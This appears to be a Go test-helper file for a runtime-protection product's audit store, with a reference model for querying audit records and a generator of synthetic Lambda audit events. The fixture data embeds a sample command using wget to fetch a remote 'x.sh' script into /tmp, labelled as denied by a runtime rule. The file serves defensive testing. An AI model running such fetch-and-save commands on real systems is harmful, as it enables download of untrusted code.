package store

import (
	"cmp"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"github.com/autodefend/autodefend/internal/api"
)

// model is what the store must be, written so that it's plainly right.
type model struct {
	audits []api.AuditRecord
	seen   map[string]bool
}

func newModel() *model { return &model{seen: make(map[string]bool)} }

// add stores an audit and tells whether it was new.
func (m *model) add(a api.AuditRecord) bool {
	id := string(a.Stream) + "/" + a.ID
	if m.seen[id] {
		return false
	}
	m.seen[id] = true
	a.Sequence = int64(len(m.audits) + 1)
	m.audits = append(m.audits, a)
	return true
}

// matching are the audits that a query finds, in its order.
func (m *model) matching(q api.AuditQuery) []api.AuditRecord {
	var found []api.AuditRecord
	for _, a := range m.audits {
		if a.Stream == q.Stream && m.holds(a, q) {
			found = append(found, a)
		}
	}
	newest := func(a, b api.AuditRecord) int {
		if q.After > 0 || q.Before > 0 {
			return cmp.Compare(b.Sequence, a.Sequence)
		}
		return cmp.Or(b.Time.Compare(a.Time), cmp.Compare(b.Sequence, a.Sequence))
	}
	slices.SortFunc(found, func(a, b api.AuditRecord) int {
		switch q.Page.Sort {
		case "":
			if q.Page.Reverse {
				return newest(b, a)
			}
			return newest(a, b)
		case "time":
			if q.Page.Reverse {
				return newest(a, b)
			}
			return newest(b, a)
		default:
			c := strings.Compare(valueOf(a, q.Page.Sort), valueOf(b, q.Page.Sort))
			if q.Page.Reverse {
				c = -c
			}
			return cmp.Or(c, newest(a, b))
		}
	})
	return found
}

func (m *model) page(q api.AuditQuery) []api.AuditRecord {
	found := m.matching(q)
	found = found[min(max(0, q.Page.Offset), len(found)):]
	if q.Page.Limit > 0 {
		found = found[:min(q.Page.Limit, len(found))]
	}
	return found
}

func (m *model) holds(a api.AuditRecord, q api.AuditQuery) bool {
	one := func(values []string, s string) bool { return values == nil || slices.Contains(values, s) }
	part := func(values []string) bool {
		return values == nil || values[0] == "" || slices.ContainsFunc(values, func(v string) bool {
			return strings.Contains(strings.ToLower(a.Msg), strings.ToLower(v))
		})
	}
	technique := q.Techniques == nil || slices.ContainsFunc(q.Techniques, func(t string) bool { return strings.Contains(a.Techniques, ","+t+",") })
	var body struct{ Method string }
	if q.Body != nil {
		_ = json.Unmarshal(a.Body, &body)
	}
	return (q.From.IsZero() || !a.Time.Before(q.From)) && (q.To.IsZero() || !a.Time.After(q.To)) &&
		(q.After == 0 || a.Sequence > q.After) && (q.Before == 0 || a.Sequence < q.Before) &&
		one(q.IDs, a.ID) && one(q.Accounts, a.Account) && one(q.Regions, a.Region) && one(q.Functions, a.Function) &&
		one(q.FunctionIDs, a.FunctionID) && one(q.Runtimes, a.Runtime) && one(q.Types, a.Type) && one(q.AttackTypes, a.AttackType) &&
		one(q.Effects, a.Effect) && one(q.Rules, a.Rule) && one(q.RequestIDs, a.RequestID) && one(q.Severities, a.Severity) &&
		technique && part(q.Msgs) && part([]string{q.Search}) && one(q.Body["method"], body.Method) && scoped(a, q.Scopes)
}

// scoped knows only the patterns that the tests use.
func scoped(a api.AuditRecord, scopes []api.FunctionScope) bool {
	if scopes == nil {
		return true
	}
	for _, s := range scopes {
		ok := len(s.Functions) == 0
		for _, p := range s.Functions {
			ok = ok || strings.HasPrefix(a.Function, strings.ToLower(strings.TrimSuffix(p, "*")))
		}
		if ok && (s.Regions == nil || slices.Contains(s.Regions, a.Region)) {
			return true
		}
	}
	return false
}

func valueOf(a api.AuditRecord, column string) string {
	return map[string]string{
		"type": a.Type, "attackType": a.AttackType, "effect": a.Effect, "rule": a.Rule, "severity": a.Severity,
		"function": a.Function, "region": a.Region, "account": a.Account, "runtime": a.Runtime,
	}[column]
}

func (m *model) tally(q api.AuditQuery, column string) []api.Tally {
	counts := make(map[string]int64)
	for _, a := range m.matching(q) {
		counts[valueOf(a, column)]++
	}
	return mostFrequent(counts, 0)
}

// estate makes audits as functions do: each has a few rules that it breaks, some far more often than others.
type estate struct {
	r         *rand.Rand
	functions int
	n         int
	span      time.Duration
	zipf      *rand.Zipf
}

func newEstate(seed uint64, functions int, span time.Duration) *estate {
	r := rand.New(rand.NewPCG(seed, 5))
	return &estate{r: r, functions: functions, span: span, zipf: rand.NewZipf(r, 1.2, 8, uint64(functions-1))}
}

// audit makes one at a time that grows from start, over the span after total of them.
func (e *estate) audit(total int) api.AuditRecord {
	when := start.Add(time.Duration(float64(e.span)*float64(e.n)/float64(total)) + time.Duration(e.r.IntN(90_000))*time.Millisecond)
	when = when.Truncate(time.Millisecond)
	e.n++
	a := api.AuditRecord{
		ID: fmt.Sprintf("%016x%016x", e.r.Uint64(), e.r.Uint64()), Stream: api.StreamRuntime, Time: when, Received: when.Add(2 * time.Second), Provider: "aws",
		RequestID: fmt.Sprintf("%08x-%04x", e.r.Uint32(), e.n%7), Count: 1 + e.r.IntN(3),
		Msg: fmt.Sprintf("DNS resolution of domain name Host%d.example%d.com triggered by /usr/bin/wget explicitly denied by a runtime rule", e.r.IntN(5000), e.r.IntN(50)),
	}
	e.describe(&a, int(e.zipf.Uint64()), e.r.IntN(5))
	a.Body = fmt.Appendf(nil, `{"_id":%q,"msg":%q,"method":%q,"function":%q,"requestID":%q,"pid":%d,"command":"/usr/bin/wget -q http://host%d.example.com/x.sh -O /tmp/x"}`,
		a.ID, a.Msg, []string{"GET", "POST", "PUT"}[e.r.IntN(3)], a.Function, a.RequestID, e.r.IntN(65536), e.r.IntN(5000))
	return a
}

// describe makes an audit one of a function, which breaks 5 rules.
func (e *estate) describe(a *api.AuditRecord, f, broken int) {
	rule := (f*7 + broken) % 40
	a.Account, a.Region = fmt.Sprintf("%012d", 100000000000+f%20), []string{"us-east-1", "eu-west-1", "eu-central-1"}[f%3]
	a.Function, a.FunctionID = fmt.Sprintf("svc-%04d", f), fmt.Sprintf("arn:aws:lambda:%d:svc-%04d", f%20, f)
	a.Runtime = []string{"python3.13", "nodejs22.x"}[f%2]
	a.Type, a.Effect = []string{"processes", "network", "filesystem"}[rule%3], []string{"alert", "prevent"}[rule%2]
	a.AttackType = []string{"explicitlyDeniedProcess", "explicitlyDeniedDNS", "regFileAccess"}[rule%3]
	a.Rule, a.Severity = fmt.Sprintf("rule %d", rule), []string{"low", "medium", "high"}[rule%3]
	a.Techniques = []string{"", ",execution,", ",dns,exfiltration,"}[rule%3]
}
